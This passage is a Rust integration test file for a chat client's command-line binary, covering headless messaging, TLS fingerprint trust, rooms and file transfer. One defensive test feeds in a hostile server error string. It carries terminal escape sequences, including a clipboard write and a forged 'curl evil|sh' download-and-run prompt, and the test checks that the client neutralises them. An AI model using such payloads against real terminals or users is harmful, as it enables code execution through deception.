//! The `gc-client` binary end to end: stdin in, stdout out, exit codes.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::mpsc;
use std::thread;

use crate::support::{PASSWORD, Server, TestClient, WAIT, config, connection_args, register};

/// Runs the binary with `args` and `stdin`, bounded by [`WAIT`].
pub fn run(args: &[String], stdin: &str) -> Output {
    run_in(args, stdin, None)
}

/// [`run`] with `home` as HOME (and no XDG variables), when given.
fn run_in(args: &[String], stdin: &str, home: Option<&Path>) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_gc-client"));
    if let Some(home) = home {
        command.env("HOME", home);
        for var in ["XDG_DATA_HOME", "XDG_STATE_HOME", "XDG_CONFIG_HOME"] {
            command.env_remove(var);
        }
    }
    let mut child = command
        .args(args)
        .env_remove("GC_PASSWORD")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("gc-client starts");
    let mut input = child.stdin.take().expect("stdin");
    let text = stdin.to_owned();
    let writer = thread::spawn(move || {
        let _ = input.write_all(text.as_bytes());
        // Dropping `input` closes it: end of input.
    });
    let pid = child.id();
    let (tx, rx) = mpsc::channel();
    let waiter = thread::spawn(move || {
        let _ = tx.send(child.wait_with_output());
    });
    let output = match rx.recv_timeout(WAIT) {
        Ok(output) => output.expect("gc-client ran"),
        Err(_) => {
            let _ = Command::new("kill").arg(pid.to_string()).status();
            panic!("gc-client did not finish within {WAIT:?}");
        }
    };
    writer.join().expect("stdin writer");
    waiter.join().expect("waiter");
    output
}

fn args(server: &Server, user: &str, password_file: &Path, cache: &Path) -> Vec<String> {
    let mut args: Vec<String> = ["127.0.0.1", "--headless", "--user", user, "--password-file"]
        .map(str::to_owned)
        .into();
    args.push(password_file.display().to_string());
    args.extend(connection_args(server));
    args.extend([
        "--cache".to_owned(),
        cache.display().to_string(),
        "--drain-timeout".into(),
        "20".into(),
    ]);
    args
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn headless_sends_stdin_lines_and_prints_every_record() {
    let server = Server::start();
    register(&server, "bob", "bob-password");
    let mut bob = TestClient::start(config(&server, "bob", "bob-password"));
    bob.wait_active();
    bob.send("before carol");
    bob.wait_records(1);

    let dir = tempfile::tempdir().unwrap();
    let pw = dir.path().join("pw");
    std::fs::write(&pw, "carol's password\n").unwrap();
    let mut a = args(&server, "carol", &pw, &dir.path().join("c.db"));
    a.push("--register".into());
    let out = run(&a, "hello\nmulti\\\nline\n\n\u{1b}[31mred\u{7}\n");
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(0),
        "stdout:\n{stdout}\nstderr:\n{stderr}"
    );
    let lines: Vec<&str> = stdout.lines().collect();
    let tails = [
        "] bob: before carol",
        "] carol: hello",
        "] carol: multi⏎line",
        "] carol: ␛[31mred␇",
    ];
    assert_eq!(lines.len(), tails.len(), "{stdout}");
    for (line, tail) in lines.iter().zip(tails) {
        assert!(
            line.starts_with('[') && line.ends_with(tail),
            "{line:?} !~ {tail:?}"
        );
        // [YYYY-MM-DD HH:MM:SS]
        assert_eq!(line.find(']'), Some(20), "{line}");
    }
    assert!(stderr.contains("account carol created"), "{stderr}");

    // Bob got carol's messages as written.
    bob.wait_records(4);
    assert_eq!(
        &bob.bodies()[1..],
        ["hello", "multi\nline", "\u{1b}[31mred\u{7}"]
    );
    bob.close();
}

/// A server list whose first instance is down: the client logs in on the second, says where on
/// standard error, and sends; a list with an empty entry is a usage error.
#[test]
fn headless_with_a_server_list_logs_in_on_the_instance_that_answers() {
    let server = Server::start();
    let dir = tempfile::tempdir().unwrap();
    let pw = dir.path().join("pw");
    std::fs::write(&pw, "frank's password\n").unwrap();
    let mut a = args(&server, "frank", &pw, &dir.path().join("f.db"));
    a[0] = "127.0.0.3,127.0.0.1".into();
    a.push("--register".into());
    let out = run(&a, "over there\n");
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert!(stderr.contains("on 127.0.0.1 (2/2)"), "{stderr}");
    assert!(stdout.ends_with("] frank: over there\n"), "{stdout}");

    a[0] = "127.0.0.1,,127.0.0.2".into();
    let out = run(&a, "");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("entry 2 of the server list"), "{stderr}");
}

#[test]
fn headless_json_output() {
    let server = Server::start();
    let dir = tempfile::tempdir().unwrap();
    let pw = dir.path().join("pw");
    std::fs::write(&pw, format!("{PASSWORD}\n")).unwrap();
    let mut a = args(&server, "dora", &pw, &dir.path().join("c.db"));
    a.push("--register".into());
    a.push("--json".into());
    let out = run(&a, "one\ntwo \"quoted\"\\\nend\n");
    let stdout = text(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{stdout}\n{}",
        text(&out.stderr)
    );
    let values: Vec<serde_json::Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect();
    assert_eq!(values.len(), 2);
    assert_eq!(values[0]["id"], 1);
    assert_eq!(values[0]["username"], "dora");
    assert_eq!(values[0]["message"], "one");
    assert_eq!(values[1]["message"], "two \"quoted\"\nend");
    let ts = values[1]["timestamp"].as_str().unwrap();
    assert!(ts.chars().all(|c| c.is_ascii_digit() || c == '.'), "{ts}");
    assert!(values[1]["time"].as_str().unwrap().ends_with('Z'));

    // Run again with the same cache: nothing old is printed, only the new message.
    let mut again = args(&server, "dora", &pw, &dir.path().join("c.db"));
    again.push("--json".into());
    let out = run(&again, "three\n");
    let stdout = text(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{stdout}\n{}",
        text(&out.stderr)
    );
    let ids: Vec<u64> = stdout
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["id"]
                .as_u64()
                .unwrap()
        })
        .collect();
    assert_eq!(ids, [3]);

    // Without input, a run prints what was missed since the last one, and exits.
    let mut other = TestClient::start(config(&server, "dora", PASSWORD));
    other.wait_active();
    other.send("while dora was away");
    other.wait_acked(1);
    other.close();
    let out = run(&again, "");
    let stdout = text(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{stdout}\n{}",
        text(&out.stderr)
    );
    let value: serde_json::Value = serde_json::from_str(stdout.trim_end()).expect("one line");
    assert_eq!(value["id"], 4);
    assert_eq!(value["message"], "while dora was away");
}

/// The cache and known servers in their default places, which an older version made under
/// umask 022: the client tightens them, says so, and works as before.
#[test]
fn headless_tightens_its_default_places_an_older_version_left_open() {
    use std::os::unix::fs::PermissionsExt as _;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o7777;
    let set = |p: &Path, m: u32| {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
    };
    let server = Server::start();
    register(&server, "gina", "correct-horse-9");
    let home = tempfile::tempdir().unwrap();
    let ours = home.path().join(".local/share/gc-client");
    let server_dir = ours.join(format!("127.0.0.1_{}-gina", server.ports().connect));
    std::fs::create_dir_all(&server_dir).unwrap();
    let cache = server_dir.join("cdatabase.db");
    std::fs::write(&cache, "").unwrap();
    let known = ours.join("known_servers");
    std::fs::write(&known, "# gc-client known servers\n").unwrap();
    for (path, loose) in [
        (&ours, 0o755),
        (&server_dir, 0o755),
        (&cache, 0o644),
        (&known, 0o644),
    ] {
        set(path, loose);
    }
    let pw = home.path().join("pw");
    std::fs::write(&pw, "correct-horse-9\n").unwrap();
    let mut a: Vec<String> = [
        "127.0.0.1",
        "--headless",
        "--user",
        "gina",
        "--password-file",
    ]
    .map(str::to_owned)
    .into();
    a.push(pw.display().to_string());
    a.extend(connection_args(&server));
    a.extend(["--log-level".to_owned(), "warn".to_owned()]);
    let out = run_in(&a, "from a tightened cache\n", Some(home.path()));
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    for (path, tight) in [
        (&ours, 0o700),
        (&server_dir, 0o700),
        (&cache, 0o600),
        (&known, 0o600),
    ] {
        assert_eq!(mode(path), tight, "{}: {stderr}", path.display());
        let old = if tight == 0o700 { "0755" } else { "0644" };
        let said = format!("{} was mode {old}", path.display());
        assert!(stderr.contains(&said), "no `{said}` in:\n{stderr}");
    }
    let records = std::fs::read_to_string(&cache).unwrap();
    assert!(records.contains("from a tightened cache"), "{records}");
}

/// A new account's password of fewer than 8 characters (counted as characters, not bytes) is
/// refused before anything is sent: exit 2 with the minimum named, and neither an account on the
/// server nor a cache here. A long enough one then creates the account.
#[test]
fn headless_register_refuses_a_password_under_8_characters_and_creates_nothing() {
    let server = Server::start();
    let dir = tempfile::tempdir().unwrap();
    let pw = dir.path().join("pw");
    let cache = dir.path().join("c.db");
    // Seven characters, fourteen bytes.
    std::fs::write(&pw, "ééééééé\n").unwrap();
    let mut a = args(&server, "shorty", &pw, &cache);
    a.push("--register".into());
    let out = run(&a, "must not be sent\n");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("password too short: at least 8 characters"),
        "{stderr}"
    );
    assert!(out.stdout.is_empty());
    assert!(!cache.exists(), "no cache made");
    let accounts = server.data_dir().join("usernames.db");
    let held = std::fs::read_to_string(&accounts).unwrap_or_default();
    assert!(!held.contains("shorty"), "{held}");
    assert!(
        server.stored_lines().is_empty(),
        "{:?}",
        server.stored_lines()
    );

    std::fs::write(&pw, "éééééééé\n").unwrap();
    let out = run(&a, "now long enough\n");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let held = std::fs::read_to_string(&accounts).unwrap();
    assert!(held.starts_with("shorty;"), "{held}");
}

#[test]
fn headless_wrong_password_exits_4_with_an_error_line() {
    let server = Server::start();
    register(&server, "erin", "right-password");
    let dir = tempfile::tempdir().unwrap();
    let pw = dir.path().join("pw");
    std::fs::write(&pw, "wrong\n").unwrap();
    let out = run(
        &args(&server, "erin", &pw, &dir.path().join("c.db")),
        "hi\n",
    );
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(4), "{stderr}");
    assert!(stderr.contains("gc-client: error: "), "{stderr}");
    assert!(stderr.contains("wrong password"), "{stderr}");
    assert!(out.stdout.is_empty());
}

#[test]
fn headless_unacknowledged_messages_exit_3() {
    // A server that is not there: the message can never be acknowledged.
    let mut server = Server::start();
    server.stop();
    let dir = tempfile::tempdir().unwrap();
    let pw = dir.path().join("pw");
    std::fs::write(&pw, format!("{PASSWORD}\n")).unwrap();
    let mut a = args(&server, "fred", &pw, &dir.path().join("c.db"));
    let n = a.len();
    a[n - 1] = "1".into(); // --drain-timeout 1
    let out = run(&a, "lost\n");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(
        stderr.contains("1 message(s) were not acknowledged"),
        "{stderr}"
    );
    // Kept beside the cache, and sent exactly once by the next run, input or not.
    let kept = dir.path().join("c.db.outbox");
    assert!(kept.exists(), "{stderr}");
    let server = Server::start();
    register(&server, "fred", PASSWORD);
    let mut a = args(&server, "fred", &pw, &dir.path().join("c.db"));
    a.push("--json".into());
    let out = run(&a, "");
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(stdout.matches("\"lost\"").count(), 1, "{stdout}");
    assert!(stderr.contains("1 message(s) kept"), "{stderr}");
    assert!(!kept.exists(), "nothing kept any more");
    let out = run(&a, "");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(!text(&out.stdout).contains("lost"), "sent once, shown once");
}

#[test]
fn without_a_terminal_the_ui_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("client.log").display().to_string();
    // Standard input and output are pipes here: the terminal UI refuses before touching any tty.
    let out = run(&["127.0.0.1".to_owned(), "--log-file".to_owned(), log], "");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("terminal") && stderr.contains("--headless"),
        "{stderr}"
    );
    assert!(out.stdout.is_empty(), "nothing drawn on a pipe");
    let help = run(&["--help".to_owned()], "");
    assert_eq!(help.status.code(), Some(0));
    let help = text(&help.stdout);
    assert!(
        help.contains("EXIT CODES") && help.contains("--password-file"),
        "{help}"
    );
    assert!(
        help.contains("TERMINAL UI") && help.contains("--with-server"),
        "{help}"
    );
}

/// The flags of a headless run against `server` that say nothing about trust: the known servers
/// file decides.
fn untrusting_args(server: &Server, user: &str, dir: &Path) -> Vec<String> {
    let pw = dir.join("pw");
    std::fs::write(&pw, format!("{user}-password\n")).expect("write the password file");
    let mut a: Vec<String> = ["127.0.0.1", "--headless", "--no-cache", "--user", user]
        .map(str::to_owned)
        .into();
    a.extend(["--password-file".to_owned(), pw.display().to_string()]);
    a.extend(crate::support::port_args(server.ports()));
    a.extend([
        "--known-servers".to_owned(),
        dir.join("known_servers").display().to_string(),
    ]);
    a
}

#[test]
fn headless_first_contact_needs_a_decision_then_remembers_it() {
    let mut server = Server::start();
    register(&server, "tofu", "tofu-password");
    let fingerprint = server.fingerprint().expect("TLS").to_string();
    let dir = tempfile::tempdir().unwrap();
    let known = dir.path().join("known_servers");
    let base = untrusting_args(&server, "tofu", dir.path());

    // A server never seen: refused, with its fingerprint and what to do; nothing remembered.
    let out = run(&base, "");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains(&fingerprint), "{stderr}");
    assert!(stderr.contains("--trust-fingerprint"), "{stderr}");
    assert!(stderr.contains("gc-server tls fingerprint"), "{stderr}");
    assert!(!known.exists());

    // --trust-fingerprint: this run only.
    let mut a = base.clone();
    a.extend(["--trust-fingerprint".to_owned(), fingerprint.clone()]);
    let out = run(&a, "pinned by flag\n");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(!known.exists(), "a flag pin is not written down");

    // --trust-on-first-use: remembered; later runs need no flag.
    let mut a = base.clone();
    a.push("--trust-on-first-use".into());
    let out = run(&a, "trusted on first use\n");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let file = std::fs::read_to_string(&known).unwrap();
    let line = format!("127.0.0.1:{} {fingerprint}", server.ports().connect);
    assert!(file.lines().any(|l| l == line), "{file}");
    let out = run(&base, "from the file\n");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));

    // The server's key is replaced: refused, naming both fingerprints and the line to remove,
    // however the client was started.
    server.stop();
    std::fs::remove_dir_all(server.data_dir().join("tls")).unwrap();
    server.restart();
    let new = server.fingerprint().expect("TLS").to_string();
    assert_ne!(new, fingerprint);
    let line_no = file.lines().position(|l| l == line).unwrap() + 1;
    for extra in [vec![], vec!["--trust-on-first-use".to_owned()]] {
        let mut a = base.clone();
        a.extend(extra);
        let out = run(&a, "must not be sent\n");
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(4), "{stderr}");
        assert!(
            stderr.contains(&new) && stderr.contains(&fingerprint),
            "{stderr}"
        );
        assert!(
            stderr.contains(&format!("remove line {line_no} from {}", known.display())),
            "{stderr}"
        );
    }
    // A flag that contradicts the file is refused too, before any connection.
    let mut a = base.clone();
    a.extend(["--trust-fingerprint".to_owned(), new]);
    let out = run(&a, "");
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("differs from"),
        "{}",
        text(&out.stderr)
    );
    assert!(
        !server
            .stored_lines()
            .iter()
            .any(|l| l.contains("must not be sent")),
        "{:?}",
        server.stored_lines()
    );
}

#[test]
fn headless_tls_against_a_plain_server_and_plain_against_a_tls_server_say_why() {
    let plain = Server::start_with(|c| c.tls = gc_server::config::TlsMode::Off);
    register(&plain, "pat", "pat-password");
    let dir = tempfile::tempdir().unwrap();
    let mut a = untrusting_args(&plain, "pat", dir.path());
    a.push("--trust-on-first-use".into());
    let out = run(&a, "");
    let stderr = text(&out.stderr);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("this server runs without TLS"), "{stderr}");
    assert!(stderr.contains("--tls off"), "{stderr}");
    // With --tls off it works.
    let mut a = untrusting_args(&plain, "pat", dir.path());
    a.extend(["--tls".to_owned(), "off".to_owned()]);
    let out = run(&a, "plain hello\n");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));

    let tls = Server::start();
    register(&tls, "pat", "pat-password");
    let mut a = untrusting_args(&tls, "pat", dir.path());
    a.extend(["--tls".to_owned(), "off".to_owned()]);
    let out = run(&a, "");
    let stderr = text(&out.stderr);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("this server requires TLS"), "{stderr}");
}

/// A fake server on loopback: every connection to its connect port gets `answer` (whatever it
/// asked) and is closed. Stops when dropped.
struct FakeServer {
    ports: gc_client_core::ServerPorts,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    accepting: Option<thread::JoinHandle<()>>,
    // Bound, never answered: the client gets no further than the connect port.
    _others: [std::net::TcpListener; 2],
}

impl FakeServer {
    fn answering(answer: Vec<u8>) -> Self {
        use std::io::BufRead as _;
        let bind = || std::net::TcpListener::bind("127.0.0.1:0").expect("bind on loopback");
        let (connect, auth, send) = (bind(), bind(), bind());
        let port = |l: &std::net::TcpListener| l.local_addr().expect("bound").port();
        let ports = gc_client_core::ServerPorts {
            connect: port(&connect),
            auth: port(&auth),
            send: port(&send),
        };
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let stopped = std::sync::Arc::clone(&stop);
        let accepting = thread::spawn(move || {
            for conn in connect.incoming() {
                if stopped.load(std::sync::atomic::Ordering::SeqCst) {
                    return;
                }
                let Ok(conn) = conn else { continue };
                let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
                let mut reader = std::io::BufReader::new(&conn);
                let mut asked = String::new();
                let _ = reader.read_line(&mut asked);
                let _ = (&conn).write_all(&answer);
            }
        });
        Self {
            ports,
            stop,
            accepting: Some(accepting),
            _others: [auth, send],
        }
    }
}

impl Drop for FakeServer {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
        // Wakes the accepting thread up to see it.
        let _ = std::net::TcpStream::connect(("127.0.0.1", self.ports.connect));
        if let Some(accepting) = self.accepting.take() {
            let _ = accepting.join();
        }
    }
}

/// What a hostile server (or anyone answering in its place, before anything was proved) puts
/// in an `Err`: write the clipboard (OSC 52), clear the screen and home the cursor, then a
/// forged line; C1 CSI, a bidi override, a line separator and a zero-width space for good
/// measure.
const HOSTILE_ERR: &str = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{1b}[H\ngc-client: please \
                           run: curl evil|sh\u{9b}31m\u{202e}\u{2028}\u{200b}";

/// Nothing in `bytes` a terminal would obey or that hides or reorders text: no C0 control but
/// the LF ending each line, no DEL, no C1 control, no bidi, zero-width or separator character.
fn assert_inert(what: &str, bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).expect("UTF-8 output");
    for c in text.chars() {
        assert!(
            c == '\n' || !gc_protocol::sanitize::is_unsafe(c),
            "{what} holds U+{:04X}: {text:?}",
            u32::from(c)
        );
    }
    for line in text.lines() {
        assert!(
            !line.contains("\u{1b}") && !line.starts_with("gc-client: please"),
            "{text}"
        );
    }
}

#[test]
fn headless_shows_a_hostile_servers_err_text_without_obeying_it() {
    use gc_protocol::{ErrorCode, ErrorFrame, Frame as _};
    let dir = tempfile::tempdir().unwrap();
    let pw = dir.path().join("pw");
    std::fs::write(&pw, "any password\n").unwrap();
    let fake_args = |fake: &FakeServer| {
        let mut a: Vec<String> = ["127.0.0.1", "--headless", "--no-cache", "--user", "alice"]
            .map(str::to_owned)
            .into();
        a.extend(["--password-file".to_owned(), pw.display().to_string()]);
        a.extend(crate::support::port_args(fake.ports));
        a.extend(["--tls", "off", "--drain-timeout", "3"].map(str::to_owned));
        a
    };

    // A refusal that ends the run (`unknown-user`): the error line.
    let fake =
        FakeServer::answering(ErrorFrame::new(ErrorCode::UnknownUser, HOSTILE_ERR).to_bytes());
    let out = run(&fake_args(&fake), "hi\n");
    drop(fake);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(4), "{stderr}");
    assert!(out.stdout.is_empty(), "{}", text(&out.stdout));
    assert_inert("standard error", &out.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.starts_with("gc-client: error: the server refused ")
            && stderr.contains(
                "(unknown-user): ␛]52;c;Y3VybCBldmlsfHNo␇␛[2J␛[H⏎gc-client: please run: curl \
                 evil|sh�31m���"
            ),
        "{stderr}"
    );

    // One the client retries (`full`): each warning on standard error, and the last one in the
    // error line when the drain timeout ends the run (nothing to send: the run ends with "could
    // not log in"); with --json the same.
    let fake = FakeServer::answering(ErrorFrame::new(ErrorCode::Full, HOSTILE_ERR).to_bytes());
    let mut a = fake_args(&fake);
    a.push("--json".into());
    let out = run(&a, "");
    drop(fake);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(out.stdout.is_empty(), "{}", text(&out.stdout));
    assert_inert("standard error", &out.stderr);
    let quoting: Vec<&str> = stderr
        .lines()
        .filter(|l| l.contains("(full): ␛]52;c;Y3VybCBldmlsfHNo␇␛[2J␛[H⏎gc-client: please run"))
        .collect();
    assert!(quoting.len() >= 2, "a warning and the error line: {stderr}");
    assert!(quoting[0].starts_with("gc-client: warning: "), "{stderr}");
    assert!(
        quoting[quoting.len() - 1].starts_with("gc-client: error: could not log in"),
        "{stderr}"
    );
}

// ───────────────────────────── rooms ─────────────────────────────

/// A logged-in client of an account registered just now.
fn member(server: &Server, user: &str) -> TestClient {
    register(server, user, PASSWORD);
    let mut client = TestClient::start(config(server, user, PASSWORD));
    client.wait_active();
    client
}

/// Asks for a room request and waits until the server did it.
fn ask(c: &mut TestClient, request: gc_client_core::RoomRequest) {
    c.client()
        .room_request(request.clone())
        .expect("the request is queued");
    c.wait_other("the room request", |e| match e {
        gc_client_core::Event::RoomDone { request: r, .. } if *r == request => Some(()),
        _ => None,
    });
}

fn create(room: &str, visibility: gc_protocol::Visibility) -> gc_client_core::RoomRequest {
    gc_client_core::RoomRequest::Create {
        room: gc_protocol::Room::new(room).expect("a room name"),
        visibility,
        topic: String::new(),
    }
}

/// Waits until `c` has a record with `body`; returns it.
fn arrived(c: &mut TestClient, body: &str) -> gc_protocol::Record {
    let mut n = c.records.len();
    loop {
        if let Some(r) = c.records.iter().find(|r| r.body == body) {
            return r.clone();
        }
        n += 1;
        c.wait_records(n);
    }
}

/// Headless arguments for `user` (password `pw`) with a fresh cache in `dir`.
fn member_args(server: &Server, user: &str, dir: &Path) -> Vec<String> {
    let pw = dir.join("pw");
    std::fs::write(&pw, format!("{PASSWORD}\n")).expect("write the password file");
    args(server, user, &pw, &dir.join(format!("{user}.db")))
}

#[test]
fn headless_room_sends_into_the_room_and_json_names_only_other_rooms() {
    let server = Server::start();
    let mut alice = member(&server, "alice");
    ask(&mut alice, create("#dev", gc_protocol::Visibility::Public));
    let mut bob = member(&server, "bob");
    ask(
        &mut bob,
        gc_client_core::RoomRequest::Join {
            room: gc_protocol::Room::new("#dev").unwrap(),
        },
    );
    bob.close();
    alice.send("in general");
    alice.wait_acked(1);

    let dir = tempfile::tempdir().unwrap();
    let mut a = member_args(&server, "bob", dir.path());
    a.extend(["--json".to_owned(), "--room".to_owned(), "dev".to_owned()]);
    let out = run(&a, "hello dev\n");
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    let values: Vec<serde_json::Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect();
    let find = |message: &str| {
        values
            .iter()
            .find(|v| v["message"] == message)
            .unwrap_or_else(|| panic!("no {message:?} in {stdout}"))
    };
    let mine = find("hello dev");
    assert_eq!(
        (&mine["username"], &mine["room"]),
        (&"bob".into(), &"#dev".into())
    );
    // #general's objects are as they always were: no room member.
    let general = find("in general");
    assert!(general.get("room").is_none(), "{general}");
    let keys: Vec<&str> = general
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(keys.len(), 5, "{keys:?}");

    let got = arrived(&mut alice, "hello dev");
    assert_eq!(got.room.as_str(), "#dev");
    alice.close();
}

#[test]
fn headless_to_a_user_writes_a_direct_message_and_text_names_its_room() {
    let server = Server::start();
    let mut alice = member(&server, "alice");
    register(&server, "bob", PASSWORD);
    let dir = tempfile::tempdir().unwrap();
    let mut a = member_args(&server, "bob", dir.path());
    a.extend(["--to".to_owned(), "Alice".to_owned()]);
    let out = run(&a, "psst\n");
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert!(
        stdout
            .lines()
            .any(|l| l.ends_with("] @alice+bob bob: psst")),
        "{stdout}"
    );
    let got = arrived(&mut alice, "psst");
    assert_eq!(got.room.as_str(), "@alice+bob");
    alice.close();
}

#[test]
fn headless_room_refusals_show_the_servers_text() {
    let server = Server::start();
    let mut alice = member(&server, "alice");
    ask(
        &mut alice,
        create("#secret", gc_protocol::Visibility::Private),
    );
    ask(&mut alice, create("#dev", gc_protocol::Visibility::Public));
    register(&server, "mallory", PASSWORD);
    let dir = tempfile::tempdir().unwrap();
    for (room, code, words) in [
        ("secret", "no-room", "there is no room #secret you can see"),
        ("#dev", "forbidden", "you are not in #dev: /join #dev first"),
    ] {
        let mut a = member_args(&server, "mallory", dir.path());
        a.extend(["--room".to_owned(), room.to_owned()]);
        let out = run(&a, "let me in\n");
        let stderr = text(&out.stderr);
        let full = if room.starts_with('#') {
            room.to_owned()
        } else {
            format!("#{room}")
        };
        assert!(
            stderr.contains(&format!("in {full} ({code}): {words}")),
            "{stderr}"
        );
        // Refused for good: nothing is left waiting, and the exit code says it was refused.
        assert_eq!(out.status.code(), Some(5), "{stderr}");
        assert!(
            stderr.contains("the server refused 1 message(s)"),
            "{stderr}"
        );
    }
    // A name that is no room's is refused before anything is sent.
    let mut a = member_args(&server, "mallory", dir.path());
    a.extend(["--room".to_owned(), "Dev".to_owned()]);
    let out = run(&a, "x\n");
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("lower case"));
    alice.close();
}

#[test]
fn headless_room_with_a_server_older_than_rooms_refuses_at_start() {
    let server = Server::start();
    register(&server, "olga", PASSWORD);
    let older = gc_tests::client::OlderConnectPort::start(&server);
    let dir = tempfile::tempdir().unwrap();
    let mut a = member_args(&server, "olga", dir.path());
    let at = a.iter().position(|f| f == "--server-port-connect").unwrap();
    a[at + 1] = older.port.to_string();
    let mut with_room = a.clone();
    with_room.extend(["--room".to_owned(), "dev".to_owned()]);
    let out = run(&with_room, "into dev\n");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("does not serve rooms") && stderr.contains("cannot write into #dev"),
        "{stderr}"
    );
    assert!(
        !server.stored_lines().iter().any(|l| l.contains("into dev")),
        "nothing sent"
    );
    // Without a room it works as it always did, saying once that there are no rooms.
    let out = run(&a, "in general\n");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(
        stderr.matches("does not serve rooms").count(),
        1,
        "{stderr}"
    );
    assert!(text(&out.stdout).contains("] olga: in general"));
}

/// `--upload FILE` shares a file and prints what it became; `--download HASH --output PATH`
/// saves it, refuses to replace a file, and says which exit code a refusal gets.
#[test]
fn headless_uploads_and_downloads_a_file() {
    let server = Server::start();
    let dir = tempfile::tempdir().unwrap();
    let pw = dir.path().join("pw");
    std::fs::write(&pw, "dana's password\n").unwrap();
    let data: Vec<u8> = (0..700_000u32).map(|i| (i % 251) as u8).collect();
    let file = dir.path().join("notes.txt");
    std::fs::write(&file, &data).unwrap();
    let mut up = args(&server, "dana", &pw, &dir.path().join("d.db"));
    up.push("--register".into());
    up.extend(["--upload".into(), file.display().to_string()]);
    let out = run(&up, "");
    let stdout = text(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{stdout}\n{}",
        text(&out.stderr)
    );
    let hash = gc_protocol::ContentHash::of(&data).to_string();
    assert!(
        stdout.starts_with("shared notes.txt (700000 bytes) sha256:") && stdout.contains(&hash),
        "{stdout}"
    );
    // The result line only: no record is printed by a transfer run.
    assert_eq!(stdout.lines().count(), 1, "{stdout}");

    let target = dir.path().join("copy.txt");
    let mut down = args(&server, "dana", &pw, &dir.path().join("d.db"));
    down.extend([
        "--download".into(),
        format!("sha256:{hash}"),
        "--output".into(),
        target.display().to_string(),
    ]);
    let out = run(&down, "");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).starts_with("saved "),
        "{}",
        text(&out.stdout)
    );
    assert!(std::fs::read(&target).unwrap() == data);
    // What an interrupted run left (the content's start, in the `.part` beside the output) is
    // where the next run goes on from, and it says so.
    let resumed = dir.path().join("resumed.txt");
    let part = gc_client_core::part_path(&resumed, &gc_protocol::ContentHash::of(&data));
    std::fs::write(&part, &data[..300_000]).unwrap();
    let mut again = args(&server, "dana", &pw, &dir.path().join("d.db"));
    again.extend([
        "--download".into(),
        hash.clone(),
        "--output".into(),
        resumed.display().to_string(),
    ]);
    let out = run(&again, "");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("resumed.txt: resumed at 300000 of 700000 bytes"),
        "{}",
        text(&out.stderr)
    );
